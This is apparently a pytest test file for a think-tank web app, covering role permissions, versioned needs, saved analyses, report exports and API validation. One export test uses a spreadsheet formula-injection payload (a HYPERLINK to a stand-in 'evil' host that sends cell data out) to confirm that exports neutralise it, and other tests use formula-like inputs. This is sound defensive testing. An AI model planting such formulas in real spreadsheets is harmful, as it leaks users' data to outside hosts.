"""The think tank's web side (issue 16, T5, T6, T8): needs, rankings by role, saved analyses, reports, filing.

Every test goes through real HTTP (the app's TestClient) on a migrated database, with a small synthetic
analysis on disk. Who may do what is the policy's one decision (``banso.authz.policies.thinktank``); the
pages' controls are compared with ``service.access`` for each persona, as tests/web/test_page_flags.py
does for the council pages.
"""

from __future__ import annotations

import csv
import io
import re
from html import unescape
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session

from banso.analytics.prioritise import CRITERIA
from banso.audit.models import AuditEntry
from banso.information.models import Item, ItemFile
from banso.thinktank import service
from banso.thinktank.models import NeedVersion, SavedAnalysis
from banso.web.context import AppContext
from tests.support.councils import active_council, join
from tests.support.factories import Factory, Person
from tests.support.http import alert_text, bearer, sign_in

SEES_RANKINGS = ("analyst", "needs_officer", "officer", "admin")
NO_RANKINGS = ("researcher", "industry", "agency_staff", "reviewer", "auditor")


def _entries(db: Session, tag: str) -> list[AuditEntry]:
    return list(db.scalars(select(AuditEntry).where(AuditEntry.tag == tag).order_by(AuditEntry.seq)))


def _ranked(html: str) -> list[str]:
    body = html.split('id="ranking-table"', 1)[1].split("</table>", 1)[0]
    return re.findall(r'data-technology="([^"]+)"', body)


def _a_tech(ctx: AppContext) -> str:
    a = service.load_analysis(ctx.settings.data_dir)
    assert a is not None
    return str(a.japan_rows()[0]["technology"])


def _weights(**over: float) -> dict[str, str]:
    return {f"w_{k}": str(over.get(k, v[0])) for k, v in CRITERIA.items()}


# ---------------------------------------------------------------------------------------------
# Who sees what (T8): the policy's roles, and pages that show exactly the service's flags


@pytest.mark.parametrize("role", NO_RANKINGS)
def test_rankings_and_needs_are_hidden_from_other_roles(client: TestClient, db: Session, factory: Factory,
                                                         ctx: AppContext, analysis_dir: Path, role: str) -> None:
    person = factory.person(roles=(role,))
    sign_in(client, db, person, ctx)
    overview = client.get("/thinktank")
    assert overview.status_code == 200  # the indicators stay open to every signed-in person
    assert 'id="to-priorities"' not in overview.text and 'id="to-needs"' not in overview.text
    tech = _a_tech(ctx)
    for url in ("/thinktank/priorities", "/thinktank/needs", f"/thinktank/needs/{tech}", "/thinktank/analyses",
                "/thinktank/reports/report.html", "/thinktank/reports/priorities.csv"):
        assert client.get(url).status_code == 403, url
    headers = bearer(db, person, ctx.clock)  # type: ignore[arg-type]
    assert client.get("/api/v1/thinktank/indicators", headers=headers).status_code == 200
    for url in ("/api/v1/thinktank/priorities", "/api/v1/thinktank/needs", "/api/v1/thinktank/analyses",
                "/api/v1/thinktank/reports/report.pdf"):
        r = client.get(url, headers=headers)
        assert r.status_code == 403 and r.json()["error"] == "forbidden", url


def _controls(html: str) -> dict[str, bool]:
    return {"read_rankings": 'id="to-priorities"' in html, "run_analyses": 'id="weights-form"' in html,
            "enter_needs": 'id="need-form"' in html}


@pytest.mark.parametrize("role", SEES_RANKINGS + NO_RANKINGS)
def test_page_controls_are_the_policy_decision(client: TestClient, db: Session, factory: Factory,
                                               ctx: AppContext, analysis_dir: Path, role: str) -> None:
    person = factory.person(roles=(role,))
    sign_in(client, db, person, ctx)
    access = service.access(person.principal())
    shown = _controls(client.get("/thinktank").text)
    assert shown["read_rankings"] == access.read_rankings, role
    if access.read_rankings:
        shown["run_analyses"] = _controls(client.get("/thinktank/priorities").text)["run_analyses"]
        shown["enter_needs"] = _controls(client.get("/thinktank/needs").text)["enter_needs"]
        assert shown == {"read_rankings": True, "run_analyses": access.run_analyses,
                         "enter_needs": access.enter_needs}, role
    assert role in SEES_RANKINGS if access.read_rankings else role in NO_RANKINGS
    assert access.enter_needs == (role == "needs_officer") and access.run_analyses == (role == "analyst")


# ---------------------------------------------------------------------------------------------
# Needs (社会実装ニーズ): entered on the page, versioned, audited, read by the ranking


def test_needs_officer_enters_versions_and_the_ranking_reads_them(client: TestClient, db: Session,
                                                                  factory: Factory, ctx: AppContext,
                                                                  analysis_dir: Path) -> None:
    officer = factory.person(roles=("needs_officer",))
    csrf = sign_in(client, db, officer, ctx)
    a = service.load_analysis(ctx.settings.data_dir)
    assert a is not None
    base = _ranked(client.get("/thinktank/priorities").text)
    last = base[-1]  # the lowest-ranked technology; a strong need must lift it
    for level, reason in (("3", "防災分野で需要"), ("5", "港湾インフラの監視に不可欠（2026年度）")):
        r = client.post("/thinktank/needs", data={"csrf_token": csrf, "technology": last, "level": level,
                                                  "reason": reason}, follow_redirects=False)
        assert r.status_code == 303 and r.headers["location"].startswith("/thinktank/needs?done=need")
    page = client.get("/thinktank/needs")
    row = page.text.split(f'id="need-{last}"', 1)[1].split("</tr>", 1)[0]
    assert "港湾インフラの監視に不可欠" in row and ">2</a>" in row and "5.0" in row
    history = client.get(f"/thinktank/needs/{last}")
    assert re.findall(r'data-version="(\d+)"', history.text) == ["2", "1"]
    assert "防災分野で需要" in history.text
    versions = db.scalars(select(NeedVersion).where(NeedVersion.technology == last)).all()
    assert sorted((v.version, v.level, v.source, v.entered_by_id) for v in versions) == [
        (1, 3.0, "web", officer.user.id), (2, 5.0, "web", officer.user.id)]
    entries = _entries(db, "thinktank:needs:enter")
    assert [(e.actor_id, e.data["technology"], e.data["version"]) for e in entries] == [
        (officer.user.id, last, 1), (officer.user.id, last, 2)]
    # The ranking reads the need from the database: with only the needs criterion weighted, it leads.
    analyst = factory.person(roles=("analyst",))
    sign_in(client, db, analyst, ctx)
    only_needs = {k: 0.0 for k in CRITERIA} | {"needs": 1.0}
    ranked = client.get("/thinktank/priorities", params=_weights(**only_needs))
    assert _ranked(ranked.text)[0] == last
    row = ranked.text.split("id=\"ranking-table\"", 1)[1].split(f'data-technology="{last}"', 1)[1].split("</tr>")[0]
    assert "港湾インフラの監視に不可欠" in row


@pytest.mark.parametrize(("field", "value", "message"), [
    ("level", "9", "1 から 5 の数値"), ("level", "abc", "1 から 5 の数値"), ("level", "", "1 から 5 の数値"),
    ("reason", "   ", "を入力してください"), ("reason", "x" * 2001, "2,000 文字以内"),
])
def test_bad_need_is_a_form_error(client: TestClient, db: Session, factory: Factory, ctx: AppContext,
                                  analysis_dir: Path, field: str, value: str, message: str) -> None:
    csrf = sign_in(client, db, factory.person(roles=("needs_officer",)), ctx)
    data = {"csrf_token": csrf, "technology": _a_tech(ctx), "level": "4", "reason": "理由"} | {field: value}
    r = client.post("/thinktank/needs", data=data)
    assert r.status_code == 422 and message in alert_text(r.text)
    assert 'id="need-form"' in r.text
    assert db.scalar(select(NeedVersion.id)) is None and not _entries(db, "thinktank:needs:enter")


def test_only_needs_officers_enter_needs_and_a_refusal_is_audited(client: TestClient, db: Session,
                                                                  factory: Factory, ctx: AppContext,
                                                                  analysis_dir: Path) -> None:
    analyst = factory.person(roles=("analyst",))
    csrf = sign_in(client, db, analyst, ctx)
    tech = _a_tech(ctx)
    r = client.post("/thinktank/needs", data={"csrf_token": csrf, "technology": tech, "level": "4", "reason": "r"})
    assert r.status_code == 403
    refused = _entries(db, "thinktank:needs:refused")
    assert [e.actor_id for e in refused] == [analyst.user.id] and db.scalar(select(NeedVersion.id)) is None
    officer = factory.person(roles=("needs_officer",))
    csrf = sign_in(client, db, officer, ctx)
    assert client.post("/thinktank/needs", data={"technology": tech, "level": "4", "reason": "r"}).status_code == 403
    r = client.post("/thinktank/needs", data={"csrf_token": csrf, "technology": "no-such-tech", "level": "4",
                                              "reason": "r"})
    assert r.status_code == 404


# ---------------------------------------------------------------------------------------------
# Saved analyses: "not saved" only with a save button; each save a version, listed with who and when


def test_analyst_saves_a_recomputed_ranking_as_versions(client: TestClient, db: Session, factory: Factory,
                                                        ctx: AppContext, analysis_dir: Path) -> None:
    analyst = factory.person(roles=("analyst",))
    csrf = sign_in(client, db, analyst, ctx)
    assert 'id="not-saved"' not in client.get("/thinktank/priorities").text
    only = {k: 0.0 for k in CRITERIA} | {"leader_share": 1.0}
    posted = client.post("/thinktank/priorities", data={"csrf_token": csrf, **_weights(**only)})
    notice = posted.text.split('id="not-saved"', 1)[1].split("</section>", 1)[0]
    assert "未保存" in notice and 'id="save-form"' in notice and 'action="/thinktank/analyses"' in notice
    ids = []
    for _ in range(2):
        r = client.post("/thinktank/analyses", data={"csrf_token": csrf, "name": "依存度重視", **_weights(**only)},
                        follow_redirects=False)
        assert r.status_code == 303
        ids.append(int(r.headers["location"].split("/")[-1].split("?")[0]))
    rows = db.scalars(select(SavedAnalysis).order_by(SavedAnalysis.version)).all()
    assert [(x.id, x.name, x.version, x.created_by_id) for x in rows] == [
        (ids[0], "依存度重視", 1, analyst.user.id), (ids[1], "依存度重視", 2, analyst.user.id)]
    page = client.get(f"/thinktank/analyses/{ids[1]}")
    assert page.status_code == 200 and "第2版" in page.text
    assert _ranked(page.text) == _ranked(posted.text)
    listing = client.get("/thinktank/analyses")
    assert re.findall(r'data-analysis="(\d+)"', listing.text) == [str(ids[1]), str(ids[0])]
    assert analyst.user.name_ja in listing.text
    assert [e.data["version"] for e in _entries(db, "thinktank:analysis:save")] == [1, 2]
    bad = client.post("/thinktank/analyses", data={"csrf_token": csrf, "name": " ", **_weights(**only)})
    assert bad.status_code == 422 and "を入力してください" in alert_text(bad.text)
    officer = factory.person(roles=("officer",))
    csrf = sign_in(client, db, officer, ctx)
    assert client.get(f"/thinktank/analyses/{ids[0]}").status_code == 200  # officers read saved analyses
    r = client.post("/thinktank/analyses", data={"csrf_token": csrf, "name": "x", **_weights()})
    assert r.status_code == 403
    assert client.get("/thinktank/analyses/999999").status_code == 404


# ---------------------------------------------------------------------------------------------
# Reports out of the web: HTML, PDF, Excel, CSV; each one audited; formula cells neutralised


def test_reports_in_every_format_are_audited(client: TestClient, db: Session, factory: Factory,
                                            ctx: AppContext, analysis_dir: Path) -> None:
    officer = factory.person(roles=("needs_officer",))
    csrf = sign_in(client, db, officer, ctx)
    tech = _a_tech(ctx)
    evil = '=HYPERLINK("http://evil/?"&A1,"詳細")'
    assert client.post("/thinktank/needs", data={"csrf_token": csrf, "technology": tech, "level": "4",
                                                 "reason": evil}, follow_redirects=False).status_code == 303
    page = client.get("/thinktank/priorities")
    assert 'href="/thinktank/reports/report.pdf"' in page.text
    html = client.get("/thinktank/reports/report.html")
    assert html.status_code == 200 and html.headers["content-type"].startswith("text/html")
    assert "重要技術インテリジェンス報告" in html.text and "data:image/png;base64," in html.text
    pdf = client.get("/thinktank/reports/report.pdf")
    assert pdf.headers["content-type"] == "application/pdf" and pdf.content[:5] == b"%PDF-"
    xlsx = client.get("/thinktank/reports/report.xlsx")
    assert xlsx.headers["content-type"].startswith("application/vnd.openxmlformats")
    ws = load_workbook(io.BytesIO(xlsx.content))["ranking"]
    header = [c.value for c in ws[1]]
    cells = [row[header.index("needs_reason")] for row in ws.iter_rows(min_row=2)]
    hit = next(c for c in cells if c.value == evil)
    assert hit.data_type == "s"  # text, not a formula (O1)
    prio = client.get("/thinktank/reports/priorities.csv")
    assert prio.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(prio.content.decode("utf-8-sig"))))
    assert next(r for r in rows if r["technology"] == tech)["needs_reason"] == "'" + evil
    ind = client.get("/thinktank/reports/indicators.csv")
    a = service.load_analysis(ctx.settings.data_dir)
    assert a is not None
    assert len(list(csv.DictReader(io.StringIO(ind.content.decode("utf-8-sig"))))) == len(a.indicators)
    kinds = [e.data["kind"] for e in _entries(db, "thinktank:report:export")]
    assert kinds == ["report.html", "report.pdf", "report.xlsx", "priorities.csv", "indicators.csv"]
    assert all(e.actor_id == officer.user.id for e in _entries(db, "thinktank:report:export"))
    assert client.get("/thinktank/reports/report.docx").status_code == 404


# ---------------------------------------------------------------------------------------------
# Filing a report into a council from the page (T6), through the council's own policy


def _pledged_analyst(factory: Factory, db: Session, ctx: AppContext) -> tuple[int, Person]:
    cast = active_council(factory, db, ctx.clock)  # type: ignore[arg-type]
    analyst = join(cast, db, ctx.clock, factory.person(roles=("analyst",)))  # type: ignore[arg-type]
    db.commit()
    return cast.council.id, analyst


def test_analyst_files_the_report_into_a_council(client: TestClient, db: Session, factory: Factory,
                                                 ctx: AppContext, analysis_dir: Path) -> None:
    council_id, analyst = _pledged_analyst(factory, db, ctx)
    csrf = sign_in(client, db, analyst, ctx)
    page = client.get("/thinktank/priorities")
    form = page.text.split('id="file-form"', 1)[1].split("</form>", 1)[0]
    assert f'<option value="{council_id}">' in form
    r = client.post("/thinktank/reports/file", data={"csrf_token": csrf, "council_id": str(council_id)},
                    follow_redirects=False)
    assert r.status_code == 303
    item_id = int(r.headers["location"].split("/")[-1].split("?")[0])
    item = db.get(Item, item_id)
    assert item is not None and item.council_id == council_id and item.provenance == "think_tank"
    files = db.scalars(select(ItemFile.filename).where(ItemFile.item_id == item_id)).all()
    assert sorted(files) == ["indicators.csv", "institutions.csv", "priorities.csv", "report.xlsx", "trends.csv"]
    [entry] = _entries(db, "thinktank:report:file")
    assert entry.actor_id == analyst.user.id and entry.data["item_id"] == item_id
    # Someone who is not a member of the council cannot file into it (the council's policy decides).
    outsider = factory.person(roles=("analyst",))
    csrf = sign_in(client, db, outsider, ctx)
    assert 'id="file-form"' not in client.get("/thinktank/priorities").text
    r = client.post("/thinktank/reports/file", data={"csrf_token": csrf, "council_id": str(council_id)})
    assert r.status_code in (403, 404)
    assert len(_entries(db, "thinktank:report:file")) == 1


# ---------------------------------------------------------------------------------------------
# The API for analysts' notebooks


def test_api_per_persona(client: TestClient, db: Session, factory: Factory, ctx: AppContext,
                         analysis_dir: Path) -> None:
    tech = _a_tech(ctx)
    officer = bearer(db, factory.person(roles=("needs_officer",)), ctx.clock)  # type: ignore[arg-type]
    analyst = bearer(db, factory.person(roles=("analyst",)), ctx.clock)  # type: ignore[arg-type]
    r = client.post(f"/api/v1/thinktank/needs/{tech}", json={"level": 4.5, "reason": "API から"}, headers=officer)
    assert r.status_code == 201 and r.json()["version"] == 1 and r.json()["source"] == "api"
    bad = client.post(f"/api/v1/thinktank/needs/{tech}", json={"level": 7, "reason": "x"}, headers=officer)
    assert bad.status_code == 422
    assert client.post(f"/api/v1/thinktank/needs/{tech}", json={"level": 3, "reason": "x"},
                       headers=analyst).status_code == 403
    assert client.post("/api/v1/thinktank/needs/nope", json={"level": 3, "reason": "x"},
                       headers=officer).status_code == 404
    needs = client.get("/api/v1/thinktank/needs", headers=analyst).json()
    assert [(n["technology"], n["level"], n["reason"]) for n in needs] == [(tech, 4.5, "API から")]
    ind = client.get("/api/v1/thinktank/indicators", headers=analyst).json()
    assert ind["window"] and any(t["technology"] == tech for t in ind["technologies"])
    assert client.get(f"/api/v1/thinktank/indicators/{tech}", headers=analyst).json()["countries"]
    prio = client.get("/api/v1/thinktank/priorities", params={"needs": 1, "japan_share": 0, "japan_rank": 0,
                                                              "japan_rca": 0, "monopoly_risk": 0,
                                                              "leader_share": 0, "momentum": 0}, headers=analyst)
    assert prio.status_code == 200 and prio.json()["rows"][0]["technology"] == tech
    assert client.get("/api/v1/thinktank/priorities", params={"needs": 1}, headers=officer).status_code == 403
    saved = client.post("/api/v1/thinktank/analyses", json={"name": "ニーズ重視", "weights": {
        k: (1.0 if k == "needs" else 0.0) for k in CRITERIA}}, headers=analyst)
    assert saved.status_code == 201 and saved.json()["version"] == 1
    assert saved.json()["ranking"][0]["technology"] == tech and saved.json()["needs"][tech][0] == 4.5
    listed = client.get("/api/v1/thinktank/analyses", headers=officer).json()
    assert [x["id"] for x in listed] == [saved.json()["id"]]
    pdf = client.get("/api/v1/thinktank/reports/report.pdf", params={"analysis_id": saved.json()["id"]},
                     headers=officer)
    assert pdf.status_code == 200 and pdf.content[:5] == b"%PDF-"
    assert client.get("/api/v1/thinktank/reports/x.exe", headers=officer).status_code == 422
    assert client.post("/api/v1/thinktank/analyses", json={"name": "x", "weights": {"needs": -1}},
                       headers=analyst).status_code == 422


def test_openapi_describes_the_thinktank_api(client: TestClient) -> None:
    spec = client.get("/api/v1/openapi.json").json()
    paths = spec["paths"]
    for path in ("/api/v1/thinktank/indicators", "/api/v1/thinktank/priorities", "/api/v1/thinktank/needs",
                 "/api/v1/thinktank/needs/{technology}", "/api/v1/thinktank/analyses",
                 "/api/v1/thinktank/analyses/{analysis_id}", "/api/v1/thinktank/reports/{kind}",
                 "/api/v1/thinktank/reports/file"):
        assert path in paths, path
    op = paths["/api/v1/thinktank/reports/{kind}"]["get"]
    assert "application/pdf" in op["responses"]["200"]["content"]
    assert op["security"] == [{"apiToken": []}]
    assert "403" in op["responses"] and "Error" in str(op["responses"]["403"])


# ---------------------------------------------------------------------------------------------
# The CLI's CSV path: an import into the same table, audited, all rows or none


def test_needs_csv_import_through_the_command(tmp_path: Path) -> None:
    from banso.app.wiring import build_context
    from banso.config import Mode, Settings
    from banso.kit.clock import FakeClock
    from banso.migrations import migrate
    from tests.support.cli import banso

    data = tmp_path / "data"
    ctx = build_context(Settings(mode=Mode.DEVELOPMENT, data_dir=data, database_url=None))
    migrate.upgrade(ctx.engine)
    with ctx.sessions() as db:
        f = Factory(db, FakeClock(), ctx.box)
        officer, analyst = f.person(roles=("needs_officer",)), f.person(roles=("analyst",))
        db.commit()
    names = list(service.technology_names())
    good = tmp_path / "needs.csv"
    good.write_text(f"technology,score,reason,ministry\n{names[0]},4,港湾監視,国交省\n{names[1]},2.5,研究段階,\n"
                    f"{names[0]},5,防災,内閣府\n", encoding="utf-8")
    bad = tmp_path / "bad.csv"
    bad.write_text(f"technology,score,reason\n{names[2]},3,ok\n{names[3]},9,too high\n", encoding="utf-8")
    refused = banso(["analyze", "needs-import", str(bad), "--as", officer.email], data)
    assert refused.returncode == 1 and "bad.csv:3: score" in refused.stderr + refused.stdout
    denied = banso(["analyze", "needs-import", str(good), "--as", analyst.email], data)
    assert denied.returncode == 1 and "ニーズ省庁" in denied.stderr + denied.stdout
    done = banso(["analyze", "needs-import", str(good), "--as", officer.email], data)
    assert done.returncode == 0, done.stderr
    assert '"imported": 3' in done.stdout
    with ctx.sessions() as db:
        rows = db.scalars(select(NeedVersion).order_by(NeedVersion.id)).all()
        assert [(r.technology, r.version, r.level, r.reason, r.source) for r in rows] == [
            (names[0], 1, 4.0, "国交省: 港湾監視", "csv"), (names[1], 1, 2.5, "研究段階", "csv"),
            (names[0], 2, 5.0, "内閣府: 防災", "csv")]
        assert len(_entries(db, "thinktank:needs:enter")) == 3
        assert [e.data["rows"] for e in _entries(db, "thinktank:needs:import")] == [3]
        assert [e.actor_id for e in _entries(db, "thinktank:needs:refused")] == [analyst.user.id]
    ctx.engine.dispose()


# ---------------------------------------------------------------------------------------------
# Tables fit: every table scrolls in its own container; synthetic data is said on every page


def test_every_table_scrolls_in_its_container_and_synthetic_data_is_said(client: TestClient, db: Session,
                                                                         factory: Factory, ctx: AppContext,
                                                                         analysis_dir: Path) -> None:
    import json

    summary = analysis_dir / service.INDICATORS / "summary.json"
    meta = json.loads(summary.read_text(encoding="utf-8")) if summary.is_file() else {}
    summary.write_text(json.dumps(meta | {"synthetic": True}), encoding="utf-8")
    officer = factory.person(roles=("needs_officer",))
    sign_in(client, db, officer, ctx)
    tech = _a_tech(ctx)
    for url in ("/thinktank", f"/thinktank/technologies/{tech}", "/thinktank/priorities", "/thinktank/needs"):
        html = client.get(url).text
        tables = html.count("<table")
        assert tables and tables == len(re.findall(r'<div class="table-wrap tt-scroll" tabindex="0" role="region"',
                                                   html)), url
        if url != "/thinktank/needs":
            assert 'id="synthetic-data"' in html, url
    css = client.get("/static/banso.css").text
    assert re.search(r"\.tt-scroll \{[^}]*overflow-x: auto", css)


@pytest.mark.parametrize("reason", ["-港湾", "=1+1", "+防衛", "@港湾"])
def test_a_formula_like_need_reason_does_not_stop_filing(client: TestClient, db: Session, factory: Factory,
                                                         ctx: AppContext, analysis_dir: Path, reason: str) -> None:
    """Issue 16 F1 (O1): the priorities.csv of a report with a neutralised reason ends with the note as a full
    record, so banso's own upload check accepts the filing (it was 422 upload_rejected, a ragged CSV)."""
    council_id, analyst = _pledged_analyst(factory, db, ctx)
    officer = bearer(db, factory.person(roles=("needs_officer",)), ctx.clock)  # type: ignore[arg-type]
    tech = _a_tech(ctx)
    r = client.post(f"/api/v1/thinktank/needs/{tech}", json={"level": 3, "reason": reason}, headers=officer)
    assert r.status_code == 201, r.text
    filed = client.post("/api/v1/thinktank/reports/file", json={"council_id": council_id},
                        headers=bearer(db, analyst, ctx.clock))  # type: ignore[arg-type]
    assert filed.status_code == 201, filed.text
    files = db.scalars(select(ItemFile.filename).where(ItemFile.item_id == filed.json()["item_id"])).all()
    assert "priorities.csv" in files
    served = client.get("/api/v1/thinktank/reports/priorities.csv", headers=officer)
    rows = list(csv.reader(io.StringIO(served.content.decode("utf-8-sig"))))
    assert "'" + reason in rows[1 + [r[1] for r in rows[1:]].index(tech)]  # still neutralised
    assert rows[-1][0].startswith("# banso:") and {len(r) for r in rows} == {len(rows[0])}  # rectangular


LOOSE_NUMBERS = ["1,000", "1,5", "1_000", "٣", "3e", "inf", "nan", "0x3", "３,５"]


@pytest.mark.parametrize("value", LOOSE_NUMBERS)
def test_weights_and_levels_are_ascii_decimal_numbers(client: TestClient, db: Session, factory: Factory,
                                                      ctx: AppContext, analysis_dir: Path, value: str) -> None:
    """Issue 16 F7: a weight or need level is digits 0-9 and "." (full-width folded by NFKC); "1,000" was
    read as 1.0, "1_000" as 1000 and "٣" as 3. Each is a 422 with the reason, Japanese first."""
    analyst = factory.person(roles=("analyst",))
    csrf = sign_in(client, db, analyst, ctx)
    r = client.post("/thinktank/analyses", data={"csrf_token": csrf, "name": "x", **_weights(),
                                                 "w_japan_share": value})
    assert r.status_code == 422 and "数値（0-9 と小数点 .）" in alert_text(r.text), value
    api = bearer(db, analyst, ctx.clock)  # type: ignore[arg-type]
    got = client.get("/api/v1/thinktank/priorities", params={"needs": value}, headers=api)
    assert got.status_code == 422 and "decimal number" in got.text, value
    csrf = sign_in(client, db, factory.person(roles=("needs_officer",)), ctx)
    r = client.post("/thinktank/needs", data={"csrf_token": csrf, "technology": _a_tech(ctx), "level": value,
                                              "reason": "理由"})
    assert r.status_code == 422 and "1 から 5 の数値（0-9 と小数点 .）" in alert_text(r.text), value
    assert db.scalar(select(NeedVersion.id)) is None and db.scalar(select(SavedAnalysis.id)) is None


def test_full_width_numbers_are_folded(client: TestClient, db: Session, factory: Factory, ctx: AppContext,
                                       analysis_dir: Path) -> None:
    """Full-width digits are what a Japanese input method types: folded by NFKC as kit/japanese.py does."""
    csrf = sign_in(client, db, factory.person(roles=("needs_officer",)), ctx)
    r = client.post("/thinktank/needs", data={"csrf_token": csrf, "technology": _a_tech(ctx), "level": "３．５",
                                              "reason": "理由"}, follow_redirects=False)
    assert r.status_code == 303 and db.scalar(select(NeedVersion.level)) == 3.5


@pytest.mark.parametrize(("path", "body", "says"), [
    ("analyses", {"name": "x", "weights": {**{k: 1 for k in CRITERIA}, "evil": 5}}, "unknown weight: evil"),
    ("analyses", {"name": "x", "weights": {**{k: 1 for k in CRITERIA}, "needs": True}}, "must be a number"),
    ("analyses", {"name": "x", "weights": {**{k: 1 for k in CRITERIA}, "needs": "1_000"}}, "must be a number"),
    ("needs", {"level": True, "reason": "x"}, "must be a number"),
    ("needs", {"level": "٣", "reason": "x"}, "must be a number"),
])
def test_api_refuses_unknown_weights_and_non_numbers(client: TestClient, db: Session, factory: Factory,
                                                     ctx: AppContext, analysis_dir: Path, path: str,
                                                     body: dict[str, object], says: str) -> None:
    """Issue 16 F7: an unknown weight key was ignored (201) and true was read as 1."""
    role = "analyst" if path == "analyses" else "needs_officer"
    headers = bearer(db, factory.person(roles=(role,)), ctx.clock)  # type: ignore[arg-type]
    url = f"/api/v1/thinktank/{path}" + ("" if path == "analyses" else f"/{_a_tech(ctx)}")
    r = client.post(url, json=body, headers=headers)
    assert r.status_code == 422 and says in r.text, r.text
    assert db.scalar(select(NeedVersion.id)) is None and db.scalar(select(SavedAnalysis.id)) is None


@pytest.mark.parametrize(("lang", "words", "not_words"), [
    ("ja", ("押し上げた基準", "ニーズ未入力", "日本のTop10%論文シェア（強み）"),
     ("raised by", "held back by", "no need entered", "Raised by")),
    ("en", ("Raised by", "No need entered", "Japan's top-10% share (strength)"),
     ("raised by", "押し上げた基準", "no need entered")),
])
def test_report_html_explains_in_the_report_language(client: TestClient, db: Session, factory: Factory,
                                                     ctx: AppContext, analysis_dir: Path, lang: str,
                                                     words: tuple[str, ...], not_words: tuple[str, ...]) -> None:
    """Issue 16 F5: the report's 説明 and ニーズの理由 columns use the priorities page's words in the
    report's language (they were prioritise.py's English "raised by …" and "no need entered")."""
    sign_in(client, db, factory.person(roles=("analyst",)), ctx)
    client.cookies.set("banso_lang", lang)
    page = unescape(client.get("/thinktank/priorities").text)
    report = client.get("/thinktank/reports/report.html")
    assert report.status_code == 200
    ranking = unescape(report.text.split("<table", 2)[2])  # the ranking table follows the indicators one
    for word in words:
        assert word in ranking and word in page, word
    for word in not_words:
        assert word not in ranking, word


def test_analyze_cli_mistakes_are_answered_japanese_first(tmp_path: Path) -> None:
    """`banso analyze` of the think tank: a user's mistake is exit 2 and one "日本語 / English" error line
    (outside tester, session 11: they were English only)."""
    from typer.testing import CliRunner

    from banso.thinktank.cli import app as analyze

    runner = CliRunner()
    latin1 = tmp_path / "latin1.csv"
    latin1.write_bytes("technology,score,reason\nx,3,caf\xe9\n".encode("latin-1"))
    for args, expected in (
        (["needs-import", str(tmp_path / "none.csv"), "--as", "a@example.org"], "ニーズファイルが見つかりません: "),
        (["needs-import", str(latin1), "--as", "a@example.org"], "UTF-8 のテキストではありません / "),
        (["report", "--indicators", str(tmp_path), "--out", str(tmp_path / "o"), "--file-into", "1"],
         "--file-into には --as EMAIL"),
    ):
        res = runner.invoke(analyze, args)
        assert res.exit_code == 2, res.output
        line = next(ln for ln in res.output.splitlines() if ln.startswith("error:"))
        assert expected in line and " / " in line, line
